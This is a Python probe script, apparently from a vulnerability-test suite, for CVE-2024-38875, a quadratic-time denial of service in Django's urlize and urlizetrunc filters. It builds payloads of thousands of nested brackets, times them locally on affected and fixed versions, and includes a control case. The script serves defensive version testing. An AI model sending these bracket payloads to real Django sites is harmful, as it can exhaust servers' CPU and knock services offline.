# /// vertice-probe
# id = "PYSEC-2024-56"
# aliases = ["CVE-2024-38875"]
# package = "django"
# summary = """\
#   urlize takes brackets off a word one at a time and counts the rest each time, so a word with very many brackets \
#   takes quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-130", "CWE-400"]
# kind = "dos"
# symbols = [
#   "django.utils.html.urlize",
#   "django.template.defaultfilters.urlize",
#   "django.template.defaultfilters.urlizetrunc",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "4.2" },
#   { fixed = "4.2.14" },
#   { introduced = "5.0" },
#   { fixed = "5.0.7" },
# ] }]
#
# [cases]
# attack = "urlize of a word in very many brackets takes quadratic time"
# [cases.variants]
# template = "the urlizetrunc filter, for square brackets around a host name"
# [cases.controls]
# links = "addresses in brackets become links without the brackets"
#
# [test]
# vulnerable = "4.2.13"
# fixed = "4.2.14"
# ///
"""CVE-2024-38875: quadratic time in urlize."""

import json
import sys
import time


def prepare(**more):
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe", USE_I18N=False, **more)
    django.setup()


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    least = []
    for size in (small, large):
        runs = []
        # Of what is quick there are more: else a busy neighbour may be there all the while.
        while len(runs) < 3 or (sum(runs) < 0.1 and len(runs) < 100):
            begin = time.process_time()
            answer = work(size)
            runs.append(time.process_time() - begin)
        least.append(min(runs))
    ratio = least[1] / max(least[0], 0.002)  # below 2 ms the clock's noise is larger than the growth
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        least[0] * 1000,
        least[1] * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    prepare()
    from django.utils.html import urlize

    def work(size):
        if not urlize("(" * size + ":" + ")" * size + " http://a.org").endswith("http://a.org</a>"):
            raise RuntimeError("the address after the brackets is no link")
        return "the address after it became a link"

    return judge(work, 6000, 24000, 7, "brackets")


def template():
    prepare(TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}])
    from django.template import Context, Template

    page = Template("{{ t|urlizetrunc:20 }}")

    def work(size):
        text = "[" * size + "b.example" + "]" * size + " http://a.org"
        if "http://a.org</a>" not in page.render(Context({"t": text})):
            raise RuntimeError("the address after the brackets is no link")
        return "the address after it became a link"

    return judge(work, 6000, 24000, 7, "brackets")


def links():
    prepare()
    from django.utils.html import urlize

    got = urlize("see (www.example.org/a_(b)) or [http://a.org/?q=1] and mail a@b.org!")
    wanted = ["/a_(b)</a>) or", "http://a.org/?q=1</a>] and", 'href="mailto:a@b.org"']
    return ("works" if all(part in got for part in wanted) else "broken"), got


CASES = {"attack": attack, "template": template, "links": links}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
